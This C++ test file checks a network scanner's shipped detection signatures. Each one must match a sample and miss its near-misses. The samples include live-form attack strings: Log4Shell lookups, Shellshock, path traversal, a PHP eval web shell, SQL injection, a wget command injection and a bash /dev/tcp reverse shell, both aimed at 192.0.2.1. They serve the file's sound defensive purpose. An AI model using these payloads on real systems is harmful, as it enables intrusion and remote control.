// config/signatures.toml: for each signature bytes that it must find and, alike, bytes that it must not.
#include <gtest/gtest.h>

#include <map>
#include <set>

#include "app/signature_file.hpp"
#include "sluice/inspect/scanner.hpp"

namespace sluice::inspect {
namespace {

using tcp::Direction;

std::string zeros(std::size_t count) {
    return std::string(count, '\0');
}
/// Bytes with NULs among them.
template <std::size_t size>
std::string raw(const char (&text)[size]) {
    return {text, size - 1};
}

struct Sample {
    std::uint32_t id;
    Direction direction;
    bool datagram;
    std::string hit;
    std::vector<std::string> misses;
};

std::vector<Sample> samples() {
    constexpr auto server = Direction::original, client = Direction::reply;
    const std::string label(55, 'x');
    return {
        {1001,
         server,
         false,
         "GET /index.html HTTP/1.1\r\nHost: a\r\n",
         {"GET the book\r\n", "x GET / HTTP/1.1\r\n"}},
        {1002, server, false, "SSH-2.0-OpenSSH_9.2\r\n", {"Protocol SSH-2.0-OpenSSH", "SSH-key"}},
        {1003, client, false, "\xff\xfd\x18\xff\xfd\x20", {"\xff\xd8\xff\xe0", "\xff\xfd\x18 login"}},
        {1004, client, false, "\r\nPassword: ", {"your password: has expired"}},
        {1005, server, false, "USER a\r\nPASS secret\r\n", {"USER PASS a\r\n", "COMPASS x\r\n"}},
        {1006, server, false, "EHLO a\r\nAUTH PLAIN AGEAYg==\r\n", {"AUTH CRAM-MD5\r\n", "no AUTH PLAIN"}},
        {1007,
         server,
         false,
         "GET / HTTP/1.1\r\nauthorization: basic dXNlcjpwYXNz\r\n",
         {"GET / HTTP/1.1\r\nAuthorization: Bearer dXNlcjpwYXNz\r\n"}},
        {1008,
         server,
         false,
         raw("\0\0\0\x85\xffSMBr\0"),
         {raw("\0\0\0\x85\xfeSMB@\0"), raw("\0\0\0\0\0\0\xffSMBr")}},
        {1009,
         server,
         false,
         raw("\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=a\r\n"),
         {raw("\x03\0\0\x16\x11\xe0\0\0\0\x01\0\xc1\x02\x01\0\xc2\x02")}},
        {2001, server, false, "X-Api: ${jNdi:ldap://192.0.2.1/a}", {"${jndi}", "${java:version}"}},
        {2002, server, false, "${${lower:j}ndi:ldap://a}", {"${lower:j}", "${a}${b}"}},
        {2003, server, false, "User-Agent: () { :;}; /bin/ping", {"function () { return; }", "() {}"}},
        {2004,
         server,
         false,
         "GET /a/..%2f../%2e%2e/etc/passwd HTTP/1.1",
         {"GET /../etc/passwd", "/etc/passwd"}},
        {2005,
         server,
         false,
         raw("\x18\x03\x02\0\x03\x01\x40\0"),
         {raw("\x18\x03\x02\0\x03\x01\0\x10"), raw("\x17\x03\x03\0\x03\x01\x40\0")}},
        {2006,
         server,
         false,
         "<?php @eval(base64_decode($_POST['x'])); ?>",
         {"evaluate($_POST", "eval($post)"}},
        {2007, server, false, "id=1'+union+all+select+1,2", {"the western union selected", "reunion select"}},
        {2008,
         server,
         false,
         "cmd=;wget${IFS}http://192.0.2.1/a.sh",
         {"wget http://192.0.2.1/", "; curled http://"}},
        {2009, server, false, "class.module.classLoader.resources", {"class.module.loader", "classLoader."}},
        {2010,
         server,
         false,
         "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}",
         {"memberAccess", "OgnlContext"}},
        {2011, server, false, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"/dev/tcp", "/dev/tcp/host/port"}},
        {2012,
         client,
         false,
         R"(X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*)",
         {"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"}},
        {2013,
         client,
         false,
         "HTTP/1.1 200 OK\r\n\r\nMZ" + zeros(70) + raw("PE\0\0"),
         {"HTTP/1.1 200 OK\r\n\r\nMZ in a text", "MZ" + zeros(70) + raw("PE\0\0")}},
        {3001,
         server,
         false,
         raw("\x05\x01\0\x05\x01\0\x03\x0bhost"),
         {raw("\x05\x01\0hello"), raw("\x04\x01\0\x50")}},
        {3002, server, false, "CONNECT a.example:22 HTTP/1.1\r\n", {"CONNECT a.example:443 HTTP/1.1\r\n"}},
        {3003,
         server,
         true,
         zeros(12) + '7' + label + '7' + label +
             raw("\x01t\x03"
                 "com\0"),
         {zeros(12) + raw("\x03www\x07"
                          "example\x03"
                          "com\0"),
          zeros(12) + '7' + label +
              raw("\x03"
                  "com\0")}},
        {3004,
         server,
         false,
         "\x13"
         "BitTorrent protocol",
         {"BitTorrent protocol",
          "the \x13"
          "BitTorrent protocol"}},
        {3005,
         server,
         false,
         R"({"id":1,"method":"mining.subscribe","params":[]})",
         {R"({"method":"data.mining"})"}},
        {3006,
         server,
         true,
         raw("\x01\0\0\0") + zeros(144),
         {raw("\x01\0\0\0") + zeros(143), raw("\x04\0\0\0") + zeros(144)}},
        {3007,
         server,
         true,
         "\x38"
         "12345678" +
             zeros(5),
         {"\x38"
          "12345678" +
              zeros(6),
          "\x40"
          "12345678" +
              zeros(5)}},
        {3008,
         server,
         true,
         raw("\xd5\x20\x08\x80\xc0\0\x02\x01\0\0\0\x16"),
         {raw("\0\xd5\x20\x08\x80"), raw("\xd5\x20\x08\x90"), "abcdefghijklmnopqrstuvwabcdefghi"}},
        {3009, client, true, zeros(8) + "SSH-2.0-OpenSSH_9.2", {"abcdefghijklmnopqrstuvwabcdefghi", "SSH"}},
    };
}

class Shipped : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        auto set = app::load_signatures(SLUICE_SOURCE_ROOT "/config/signatures.toml");
        ASSERT_TRUE(set.ok()) << set.error();
        auto database = Database::compile(std::move(*set), {}, "");
        ASSERT_TRUE(database.ok()) << database.error();
        scanner = std::move(*Scanner::create(*database, 4));
    }
    static void TearDownTestSuite() { scanner.reset(); }

    /// What is found in these bytes, in one piece and byte by byte.
    static std::set<std::uint32_t> hits(Direction direction, bool datagram, const std::string& text) {
        std::set<std::uint32_t> whole, by_byte;
        const auto& signatures = scanner->database().signatures();
        const std::span bytes{reinterpret_cast<const std::uint8_t*>(text.data()), text.size()};
        const auto into = [&](auto& found) {
            return [&](std::uint32_t number, std::uint64_t) { found.insert(signatures[number].id); };
        };
        if (datagram) {
            scanner->scan_datagram(direction, bytes, into(whole));
            return whole;
        }
        const auto one = scanner->open(direction), two = scanner->open(direction);
        scanner->scan(one, bytes, into(whole));
        for (std::size_t i = 0; i < bytes.size(); ++i) scanner->scan(two, bytes.subspan(i, 1), into(by_byte));
        scanner->end(one, into(whole));
        scanner->end(two, into(by_byte));
        EXPECT_EQ(whole, by_byte);
        return whole;
    }

    static inline std::unique_ptr<Scanner> scanner;
};

TEST_F(Shipped, EachFindsWhatItIsForAndNothingLikeIt) {
    std::set<std::uint32_t> tried;
    for (const Sample& sample : samples()) {
        SCOPED_TRACE(sample.id);
        tried.insert(sample.id);
        EXPECT_TRUE(hits(sample.direction, sample.datagram, sample.hit).contains(sample.id));
        EXPECT_FALSE(sample.misses.empty());
        for (const std::string& miss : sample.misses)
            EXPECT_FALSE(hits(sample.direction, sample.datagram, miss).contains(sample.id)) << miss;
    }
    for (const auto& signature : scanner->database().signatures().all())
        EXPECT_TRUE(tried.contains(signature.id)) << signature.id << " has no sample";
    EXPECT_EQ(tried.size(), scanner->database().signatures().size());
}

TEST_F(Shipped, NoneButItsOwnFindsASample) {
    // A request on no port in particular is one on a port that is not HTTP's.
    const std::map<std::uint32_t, std::set<std::uint32_t>> together{{1007, {1001}}};
    for (const Sample& sample : samples()) {
        auto found = hits(sample.direction, sample.datagram, sample.hit);
        found.erase(sample.id);
        const auto others = together.find(sample.id);
        EXPECT_EQ(found, others == together.end() ? std::set<std::uint32_t>{} : others->second) << sample.id;
    }
}

TEST_F(Shipped, NoneFindsAnythingInNoise) {
    std::string noise(1U << 20U, ' ');
    std::uint64_t state = 1;
    for (char& c : noise) {
        state = state * 6364136223846793005U + 1442695040888963407U;
        c = static_cast<char>(state >> 56U);
    }
    const auto scan = [](Direction direction, const std::string& text) {
        std::set<std::uint32_t> found;
        const auto& signatures = scanner->database().signatures();
        const auto on_match = [&](std::uint32_t number, std::uint64_t) {
            found.insert(signatures[number].id);
        };
        const auto stream = scanner->open(direction);
        scanner->scan(stream, {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()}, on_match);
        scanner->end(stream, on_match);
        return found;
    };
    EXPECT_EQ(scan(Direction::original, noise), std::set<std::uint32_t>{});
    EXPECT_EQ(scan(Direction::reply, noise), std::set<std::uint32_t>{});
}

TEST_F(Shipped, NeedLittleMemoryForAStream) {
    EXPECT_LT(scanner->database().stream_bytes(Direction::original), 1024U);
    EXPECT_LT(scanner->database().stream_bytes(Direction::reply), 1024U);
    EXPECT_FALSE(scanner->database().signatures().may_block());
}

}  // namespace
}  // namespace sluice::inspect
